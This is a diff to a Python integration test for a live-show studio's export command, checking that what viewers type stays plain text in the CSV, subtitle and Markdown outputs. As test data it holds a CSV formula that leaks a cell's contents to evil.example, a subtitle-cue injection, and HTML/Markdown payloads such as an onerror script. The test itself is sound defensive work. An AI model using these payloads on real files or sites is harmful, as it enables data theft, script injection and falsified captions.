@@ -11,7 +11,10 @@ lines are typed, then the session is exported:
 - subtitles.srt and .vtt read by ffmpeg; transcript.html escapes a <script>
   question; questions.csv has a BOM and marks unanswered questions for
   follow-up; summary.json counts by status and reason;
-- a session killed mid-show still exports, and says what is missing.
+- a session killed mid-show still exports, and says what is missing;
+- what hostile viewers type stays text: no formula in questions.csv, no cue
+  of their own in the subtitles, no heading, link or HTML in the Markdown;
+  `--lang en` writes the package's own words in English.
 
 Run alone: /usr/bin/python3 tests/integration/test_export.py
 """
@@ -19,6 +22,7 @@ Run alone: /usr/bin/python3 tests/integration/test_export.py
 import csv
 import io
 import json
+import re
 import subprocess
 import sys
 import time
@@ -29,6 +33,8 @@ import harness  # noqa: E402
 from harness import IntegrationTest, Studio, make_show  # noqa: E402
 
 KEYFRAME_S = 1
+# What Excel, LibreOffice and Google Sheets read as the start of a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def export_show() -> dict:
@@ -40,6 +46,29 @@ def export_show() -> dict:
     return show
 
 
+def parse_cues(text: str, srt: bool) -> list[tuple[str, list[str]]]:
+    """(timing line, text lines) per block, blocks split at blank lines the
+    way WebVTT and SRT readers split them."""
+    blocks = [b.split("\n") for b in text.split("\n\n") if b.strip("\n")]
+    if not srt:
+        assert blocks and blocks[0] == ["WEBVTT"], blocks[:1]
+        blocks = blocks[1:]
+    cues = []
+    for n, block in enumerate(blocks, 1):
+        if srt:
+            assert block[0] == str(n), f"SRT cue {n} numbered {block[0]!r}"
+            block = block[1:]
+        assert " --> " in block[0], f"a block that is no cue: {block}"
+        cues.append((block[0], block[1:]))
+    return cues
+
+
+def cue_time(ms: int, separator: str) -> str:
+    ms = max(0, ms)
+    return (f"{ms // 3600000:02d}:{ms // 60000 % 60:02d}:{ms // 1000 % 60:02d}"
+            f"{separator}{ms % 1000:03d}")
+
+
 def ffprobe(path: Path, *args: str) -> dict:
     out = subprocess.run(["ffprobe", "-v", "error", "-of", "json", *args, str(path)],
                          capture_output=True, text=True, timeout=30)
@@ -49,9 +78,10 @@ def ffprobe(path: Path, *args: str) -> dict:
 
 
 class Export(IntegrationTest):
-    def run_export(self, studio: Studio, session: int, out: Path) -> subprocess.CompletedProcess:
+    def run_export(self, studio: Studio, session: int, out: Path,
+                   *args: str) -> subprocess.CompletedProcess:
         return subprocess.run([str(harness.studio_binary()), "export", "--session", str(session),
-                               "--out", str(out), "--data", str(studio.data_dir)],
+                               "--out", str(out), "--data", str(studio.data_dir), *args],
                               capture_output=True, text=True, timeout=120)
 
     def test_package_of_a_short_show(self):
@@ -148,7 +178,8 @@ class Export(IntegrationTest):
         rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))
         self.assertEqual(len(rows), 5, rows)  # header + 4
         by_id = {int(r[0]): r for r in rows[1:]}
-        self.assertEqual(by_id[q3][10], "off_topic")
+        self.assertEqual(by_id[q3][10], "离题")
+        self.assertEqual(by_id[q2][4], "投诉")
         self.assertEqual(by_id[q4][14], "待部门跟进答复")
         self.assertEqual(by_id[q1][14], "")
 
@@ -160,6 +191,133 @@ class Export(IntegrationTest):
         self.assertEqual(summary["unanswered_for_follow_up"], 1)
         self.assertGreaterEqual(summary["peak_viewers"], 2)
         self.assertEqual(summary["warnings"], [])
+
+    def test_what_viewers_type_stays_text(self):
+        studio = Studio(self.case_dir(), export_show(), name="hostile")
+        self.addCleanup(studio.close)
+        studio.start()
+        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 1500, 20, "recording")
+        producer = studio.producer()
+        self.addCleanup(producer.close)
+        viewer = studio.viewer()
+        self.addCleanup(viewer.close)
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+        # A question that ends its cue and writes one over the whole video.
+        injection = "请看\n\n00:00:00.000 --> 09:59:59.000\n本节目内容不实"
+        markup = ("# 标题 [点我](http://evil.example) ![图](http://evil.example/a.png) "
+                  "<img src=x onerror=alert(1)> | a | b | <font color=red>红</font> {\\an8}")
+        asked = {}
+        for text, nickname, category in ((formula, "@SUM(1)", "question"),
+                                         ("+1+1", "－1", "suggestion"),
+                                         (injection, "=1+1", "complaint"),
+                                         (markup, "-1", "question")):
+            r = viewer.submit(text, nickname=nickname, category=category)
+            self.assertIn("question", r, r)
+            asked[r["question"]["id"]] = (text, nickname, category)
+        q_formula, q_plus, q_injection, q_markup = asked
+        type_line = lambda speaker, text: producer.command(  # noqa: E731
+            "transcript.commit", speaker=speaker, text=text, typing_ms=800)
+        type_line("host", "欢迎收看温网议事厅。")
+        for q in (q_injection, q_markup):
+            self.assertTrue(producer.command("question.approve", question=q).get("ok"))
+            producer.command("question.on_air", question=q)
+            time.sleep(1.0)
+            type_line("guest1", "这个问题我们会核实。")
+            time.sleep(1.5)
+            producer.command("question.answered")
+            time.sleep(0.3)
+        session = studio.status()["show"]["session_id"]
+        self.assertEqual(studio.stop(), 0)
+
+        out = self.case_dir() / "package"
+        r = self.run_export(studio, session, out)
+        self.assertEqual(r.returncode, 0, f"export failed:\n{r.stderr}")
+        out_en = self.case_dir() / "package-en"
+        r = self.run_export(studio, session, out_en, "--lang", "en")
+        self.assertEqual(r.returncode, 0, f"export --lang en failed:\n{r.stderr}")
+
+        # questions.csv: no cell Excel would run; categories in the language.
+        categories = {"zh": {"question": "提问", "suggestion": "建议", "complaint": "投诉"},
+                      "en": {"question": "Question", "suggestion": "Suggestion",
+                             "complaint": "Complaint"}}
+        for lang, folder in (("zh", out), ("en", out_en)):
+            raw = (folder / "questions.csv").read_bytes()
+            self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "questions.csv has no BOM")
+            rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
+            self.assertEqual(rows[0][0], "编号" if lang == "zh" else "No.")
+            self.assertEqual(len(rows), 1 + len(asked), rows)
+            for row in rows[1:]:
+                self.assertEqual(len(row), 15, row)
+                text, nickname, category = asked[int(row[0])]
+                self.assertEqual(row[3], "'" + nickname)
+                self.assertEqual(row[4], categories[lang][category])
+                expected = "'" + text if text[:1] in FORMULA_STARTS else text
+                self.assertEqual(row[6], expected)
+                self.assertEqual(row[7], expected)
+                for cell in row:
+                    self.assertNotIn(cell[:1], FORMULA_STARTS, f"a cell Excel would run: {cell!r}")
+
+        # The subtitles: one cue per transcript line, at the times the show
+        # put them, none past the end of the recording.
+        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
+        offset, recorded = summary["program_offset_ms"], summary["recording_ms"]
+        lines = json.loads((out / "transcript.json").read_text(encoding="utf-8"))["lines"]
+        asked_on_air = [line["text"].split("：", 1)[1] for line in lines
+                        if line["kind"] == "question"]
+        self.assertEqual(asked_on_air, [injection, markup])
+        # As the exporter times them: from when it was said, at least 2 s,
+        # never over the next line, never past the recording's end.
+        want = []
+        for i, line in enumerate(lines):
+            start = line["start_ms"] - offset
+            self.assertTrue(0 <= start < recorded, f"line {line['id']} outside the recording")
+            end = max(line["end_ms"] - offset, start + 2000)
+            if i + 1 < len(lines):
+                end = min(end, max(start + 500, lines[i + 1]["start_ms"] - offset))
+            want.append((start, max(min(end, recorded), start + 1)))
+        for name, srt in (("subtitles.vtt", False), ("subtitles.srt", True)):
+            text = (out / name).read_text(encoding="utf-8")
+            cues = parse_cues(text, srt)
+            sep = "," if srt else "."
+            self.assertEqual([t for t, _ in cues],
+                             [f"{cue_time(a, sep)} --> {cue_time(b, sep)}" for a, b in want],
+                             f"{name}:\n{text}")
+            for timing, body in cues:
+                self.assertEqual(len(body), 1, f"{name}: a cue of {len(body)} lines: {body}")
+                self.assertNotIn("-->", body[0], f"{name}: an arrow in a cue's text")
+                self.assertNotIn("<", body[0], f"{name}: a tag in a cue's text")
+            self.assertIn("本节目内容不实", text)
+            # ffmpeg decodes every cue without a complaint (the null muxer
+            # picks no subtitle encoder of its own: ASS), and finds the same
+            # cues at the same times.
+            rc = subprocess.run(["ffmpeg", "-v", "error", "-i", str(out / name), "-map", "0",
+                                 "-c:s", "ass", "-f", "null", "-"],
+                                capture_output=True, text=True, timeout=30)
+            self.assertEqual((rc.returncode, rc.stderr.strip()), (0, ""), f"ffmpeg reading {name}")
+            # Both demuxers time cues in ms (time base 1/1000).
+            packets = ffprobe(out / name, "-show_packets")["packets"]
+            self.assertEqual([(p["pts"], p["pts"] + p["duration"]) for p in packets], want,
+                             f"ffprobe's cues of {name}")
+        vtt = (out / "subtitles.vtt").read_text(encoding="utf-8")
+        self.assertIn("请看 00:00:00.000 --&gt; 09:59:59.000 本节目内容不实", vtt)
+
+        # The Markdown record: the exporter's headings and list, nothing a
+        # viewer wrote as Markdown or HTML.
+        for folder, opening, date in ((out, "## 开场", "- 日期："),
+                                      (out_en, "## Opening", "- Date: ")):
+            md = (folder / "transcript.md").read_text(encoding="utf-8")
+            rows = [line for line in md.split("\n") if line]
+            headings = [line for line in rows if line.startswith("#")]
+            self.assertEqual(len(headings), 4, headings)  # title, opening, 2 questions
+            self.assertEqual(headings[1], opening)
+            self.assertEqual(headings[2], "## 网友「=1+1」投诉：请看 00:00:00.000 --&gt; "
+                                          "09:59:59.000 本节目内容不实")
+            self.assertEqual([line for line in rows if line.startswith("- ")][0][:len(date)], date)
+            self.assertNotIn("<", md)
+            # Every bracket (a link, an image) is escaped; the record has none of its own.
+            self.assertIsNone(re.search(r"(?<!\\)[\[\]]", md), md)
+            self.assertIn("\\[点我\\](http\\://evil.example)", md)
+            self.assertIn("&lt;img src=x onerror=alert(1)&gt;", md)
 
     def test_a_killed_session_still_exports(self):
         studio = Studio(self.case_dir(), export_show(), name="killed")
@@ -235,6 +393,11 @@ class Export(IntegrationTest):
                            capture_output=True, text=True, timeout=30)
         self.assertEqual(r.returncode, 1)
         self.assertIn("no database", r.stderr)
+        r = subprocess.run([str(harness.studio_binary()), "export", "--session", "1", "--out",
+                            str(self.case_dir() / "x"), "--lang", "fr"],
+                           capture_output=True, text=True, timeout=30)
+        self.assertEqual(r.returncode, 2)
+        self.assertIn("--lang", r.stderr)
         del studio
 
 
